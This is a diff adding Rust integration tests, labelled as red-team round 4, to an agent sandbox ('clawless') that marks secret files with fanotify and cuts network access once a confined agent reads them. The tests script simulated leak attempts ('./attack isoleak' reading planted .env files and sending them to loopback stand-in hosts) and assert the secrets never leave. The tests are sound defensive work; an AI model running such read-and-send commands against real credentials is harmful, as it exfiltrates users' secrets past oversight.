@@ -3655,3 +3655,348 @@ fn isolated_files_fuse_a_secret_created_outside_during_the_session_is_a_tripwire
         show(&o)
     );
 }
+
+/// Whether `clawless` (pid `pid`) has a fanotify mark on the inode of `path`.
+fn marked(pid: u32, path: &std::path::Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    let Ok(m) = std::fs::symlink_metadata(path) else {
+        return false;
+    };
+    let ino = format!("ino:{:x} ", m.ino());
+    std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
+        .into_iter()
+        .flatten()
+        .flatten()
+        .any(|e| {
+            std::fs::read_to_string(e.path())
+                .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
+        })
+}
+
+/// Removes a directory tree on drop (the system roots' test directories).
+struct Cleanup(Vec<std::path::PathBuf>);
+
+impl Drop for Cleanup {
+    fn drop(&mut self) {
+        for p in &self.0 {
+            let _ = std::fs::remove_dir_all(p);
+        }
+    }
+}
+
+/// unwatched-root-created-during-session (red team round 4): a secret an outside
+/// process creates during the session under a system root no start-up walk
+/// watched (`/opt`, `/etc`), and a directory holding a secret that an outside
+/// process moves there from a place outside every discovery root, are tripwires
+/// (the watcher's filesystem marks cover every file system of the roots): the
+/// agent's read after they appear taints, and nothing read leaves.
+#[test]
+fn isolated_files_a_secret_created_outside_under_a_system_root_taints() {
+    // SAFETY: getpid takes nothing and cannot fail.
+    let me = unsafe { libc::getpid() };
+    let cases = [
+        (
+            "create",
+            std::path::PathBuf::from(format!("/opt/clawless-r4w-{me}")),
+        ),
+        (
+            "create",
+            std::path::PathBuf::from(format!("/etc/clawless-r4w-{me}")),
+        ),
+        (
+            "move",
+            std::path::PathBuf::from(format!("/opt/clawless-r4m-{me}")),
+        ),
+    ];
+    for (i, (how, dir)) in cases.iter().enumerate() {
+        let ip = format!("127.77.41.{}", 1 + i);
+        let server = Tcp::new(&ip, 443);
+        let f = Fixture::new(&format!("iso-sysroot-{how}-{i}")).with_attack();
+        // Outside every discovery root, on the same file system as /opt.
+        let from = std::path::PathBuf::from(format!("/var/lib/clawless-r4m-src-{me}"));
+        let _clean = Cleanup(vec![dir.clone(), from.clone()]);
+        std::fs::create_dir_all(dir).unwrap();
+        let secret = if *how == "move" {
+            std::fs::create_dir_all(from.join("app")).unwrap();
+            std::fs::write(from.join("app/.env"), "LEAK:SECRET-moved-in-r4\n").unwrap();
+            dir.join("app/.env")
+        } else {
+            dir.join(".env")
+        };
+        let script = format!(
+            "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain {} {ip} 443",
+            secret.display()
+        );
+        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+        cmd.stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let child = cmd.spawn().unwrap();
+        let pid = child.id();
+        let start = std::time::Instant::now();
+        let mut got = String::new();
+        while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
+            got.push_str(&server.received());
+            std::thread::sleep(Duration::from_millis(10));
+        }
+        assert!(
+            got.starts_with("PRE-TAINT-CHANNEL-OK"),
+            "{how} {}: the sandbox did not get to its send: {got:?}",
+            dir.display()
+        );
+        // The outside process: during the session, after discovery.
+        if *how == "move" {
+            std::fs::rename(from.join("app"), dir.join("app")).unwrap();
+        } else {
+            std::fs::write(&secret, "LEAK:SECRET-created-outside-r4\n").unwrap();
+        }
+        let made = std::time::Instant::now();
+        if kernel_opens() {
+            while !marked(pid, &secret) && made.elapsed() < Duration::from_secs(10) {
+                std::thread::sleep(Duration::from_micros(200));
+            }
+            eprintln!(
+                "{how} {}: marked {:?} after the outside change",
+                secret.display(),
+                made.elapsed()
+            );
+            assert!(
+                marked(pid, &secret),
+                "{how} {}: the watcher did not mark the new secret",
+                secret.display()
+            );
+        }
+        std::fs::write(f.ws.join("go"), "").unwrap();
+        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let out = stdout(&o);
+        assert!(
+            out.contains("isoleak read: ") && !out.contains("isoleak read: -1"),
+            "{how} {}: the read did not happen\n{}",
+            dir.display(),
+            show(&o)
+        );
+        assert!(
+            !server.received().contains("LEAK:"),
+            "{how} {}: the secret left\n{}",
+            dir.display(),
+            show(&o)
+        );
+        assert!(
+            out.contains("socket: errno=") || out.contains("isoleak connect: errno="),
+            "{how} {}: not tainted\n{}",
+            dir.display(),
+            show(&o)
+        );
+        kernel_decided(&o);
+    }
+}
+
+/// The discovery cache is invalidated by every change made between runs in a
+/// cached tree (its stamps are trusted: the tree is older than the cache's
+/// distrust of fresh timestamps when first cached, and a second run starts from
+/// the cache): a secret added deep inside, a directory holding a secret moved in
+/// from outside every discovery root, and a file system mounted over a cached
+/// directory are each a tripwire in the next run.
+#[test]
+fn isolated_files_the_cache_sees_secrets_added_between_runs() {
+    let f = Fixture::new("iso-cache-between").with_attack();
+    let deep = f.ws.join("deep/a/b/c");
+    std::fs::create_dir_all(&deep).unwrap();
+    // SAFETY: getpid takes nothing and cannot fail.
+    let from = std::path::PathBuf::from(format!("/var/lib/clawless-cache-src-{}", unsafe {
+        libc::getpid()
+    }));
+    let _clean = Cleanup(vec![from.clone()]);
+    std::thread::sleep(Duration::from_millis(2100));
+    for _ in 0..2 {
+        let o = f.run(&[], &["/bin/true"]);
+        assert_eq!(code(&o), 0, "{}", show(&o));
+        kernel_decided(&o);
+    }
+    // Added deep inside a cached directory.
+    std::fs::write(deep.join(".env"), "LEAK:SECRET-added-between-runs\n").unwrap();
+    let o = leak_attempt(&f, "127.77.41.10", "plain", "deep/a/b/c/.env", &[]);
+    kernel_decided(&o);
+    // Moved in, with what it holds, from outside every root.
+    std::fs::create_dir_all(from.join("app")).unwrap();
+    std::fs::write(from.join("app/.env.local"), "LEAK:SECRET-moved-between-runs\n").unwrap();
+    std::thread::sleep(Duration::from_millis(2100));
+    let o = f.run(&[], &["/bin/true"]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    std::fs::rename(from.join("app"), f.ws.join("deep/a/app")).unwrap();
+    let o = leak_attempt(&f, "127.77.41.11", "plain", "deep/a/app/.env.local", &[]);
+    kernel_decided(&o);
+    // A file system mounted over a cached directory.
+    std::thread::sleep(Duration::from_millis(2100));
+    let o = f.run(&[], &["/bin/true"]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    let _m = Mounted::tmpfs(&f.ws.join("deep/a/b"));
+    std::fs::write(f.ws.join("deep/a/b/.env"), "LEAK:SECRET-mounted-between-runs\n").unwrap();
+    let o = leak_attempt(&f, "127.77.41.12", "plain", "deep/a/b/.env", &[]);
+    kernel_decided(&o);
+}
+
+/// A cached tree changed during a run: the secret an outside process creates in
+/// a cached directory while a session runs is marked in that session, and the
+/// next run (whose cache was written before the change) finds it too.
+#[test]
+fn isolated_files_a_cached_tree_changed_during_the_run_is_found() {
+    let f = Fixture::new("iso-cache-during").with_attack();
+    std::fs::create_dir_all(f.ws.join("deep/a/b")).unwrap();
+    std::thread::sleep(Duration::from_millis(2100));
+    let o = f.run(&[], &["/bin/true"]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    kernel_decided(&o);
+    let ip = "127.77.41.20";
+    let server = Tcp::new(ip, 443);
+    let script = format!(
+        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain deep/a/b/.env {ip} 443"
+    );
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    let mut got = String::new();
+    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
+        got.push_str(&server.received());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the sandbox did not get to its send: {got:?}"
+    );
+    let secret = f.ws.join("deep/a/b/.env");
+    std::fs::write(&secret, "LEAK:SECRET-created-during-run\n").unwrap();
+    if kernel_opens() {
+        let made = std::time::Instant::now();
+        while !marked(pid, &secret) && made.elapsed() < Duration::from_secs(10) {
+            std::thread::sleep(Duration::from_micros(200));
+        }
+        assert!(marked(pid, &secret), "the watcher did not mark the new secret");
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    assert!(
+        out.contains("isoleak read: 31"),
+        "the read did not happen\n{}",
+        show(&o)
+    );
+    assert!(
+        !server.received().contains("LEAK:"),
+        "the secret left\n{}",
+        show(&o)
+    );
+    assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
+    kernel_decided(&o);
+    // The next run starts from the cache written before the creation.
+    let o = leak_attempt(&f, "127.77.41.21", "plain", "deep/a/b/.env", &[]);
+    kernel_decided(&o);
+}
+
+/// A file system an outside process mounts below a discovery root during the
+/// session (propagated into the sandbox: the mount below is shared), with a
+/// secret on it, is watched and walked: the agent's read of it taints.
+#[test]
+fn isolated_files_a_secret_on_a_mount_made_during_the_session_taints() {
+    let f = Fixture::new("iso-mount-during").with_attack();
+    let shared = f.ws.join("shared");
+    let _outer = Mounted::tmpfs(&shared);
+    {
+        use std::os::unix::ffi::OsStrExt;
+        let c = std::ffi::CString::new(shared.as_os_str().as_bytes()).unwrap();
+        // SAFETY: valid C string; a propagation change of our own test mount.
+        let r = unsafe {
+            libc::mount(
+                std::ptr::null(),
+                c.as_ptr(),
+                std::ptr::null(),
+                libc::MS_SHARED,
+                std::ptr::null(),
+            )
+        };
+        assert_eq!(
+            r,
+            0,
+            "making {} shared: {}",
+            shared.display(),
+            std::io::Error::last_os_error()
+        );
+    }
+    let ip = "127.77.41.30";
+    let server = Tcp::new(ip, 443);
+    let script = format!(
+        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain shared/vol/.env {ip} 443"
+    );
+    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let pid = child.id();
+    let start = std::time::Instant::now();
+    let mut got = String::new();
+    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
+        got.push_str(&server.received());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the sandbox did not get to its send: {got:?}"
+    );
+    // Filled before it is mounted there, outside every root: no creation below a
+    // root is seen, only the mount.
+    let staging = std::path::PathBuf::from(format!("/var/lib/clawless-mount-{pid}"));
+    let _clean = Cleanup(vec![staging.clone()]);
+    std::fs::create_dir_all(&staging).unwrap();
+    let _inner = Mounted::tmpfs(&staging);
+    std::fs::write(staging.join(".env"), "LEAK:SECRET-on-a-new-mount\n").unwrap();
+    std::fs::create_dir_all(shared.join("vol")).unwrap();
+    {
+        use std::os::unix::ffi::OsStrExt;
+        let from = std::ffi::CString::new(staging.as_os_str().as_bytes()).unwrap();
+        let to = std::ffi::CString::new(shared.join("vol").as_os_str().as_bytes()).unwrap();
+        // SAFETY: valid C strings; a bind mount of our own test mount.
+        let r = unsafe {
+            libc::mount(
+                from.as_ptr(),
+                to.as_ptr(),
+                std::ptr::null(),
+                libc::MS_BIND,
+                std::ptr::null(),
+            )
+        };
+        assert_eq!(r, 0, "bind-mounting: {}", std::io::Error::last_os_error());
+    }
+    let _vol = Mounted(std::ffi::CString::new(shared.join("vol").as_os_str().as_encoded_bytes()).unwrap());
+    let secret = shared.join("vol/.env");
+    if kernel_opens() {
+        let made = std::time::Instant::now();
+        while !marked(pid, &secret) && made.elapsed() < Duration::from_secs(10) {
+            std::thread::sleep(Duration::from_micros(200));
+        }
+        eprintln!(
+            "the secret on the new mount was marked {:?} after the mount",
+            made.elapsed()
+        );
+        assert!(
+            marked(pid, &secret),
+            "the watcher did not mark the secret on the new mount"
+        );
+    }
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let out = stdout(&o);
+    assert!(
+        out.contains("isoleak read: 27"),
+        "the read did not happen (was the mount propagated?)\n{}",
+        show(&o)
+    );
+    assert!(
+        !server.received().contains("LEAK:"),
+        "the secret left\n{}",
+        show(&o)
+    );
+    assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
+    kernel_decided(&o);
+}
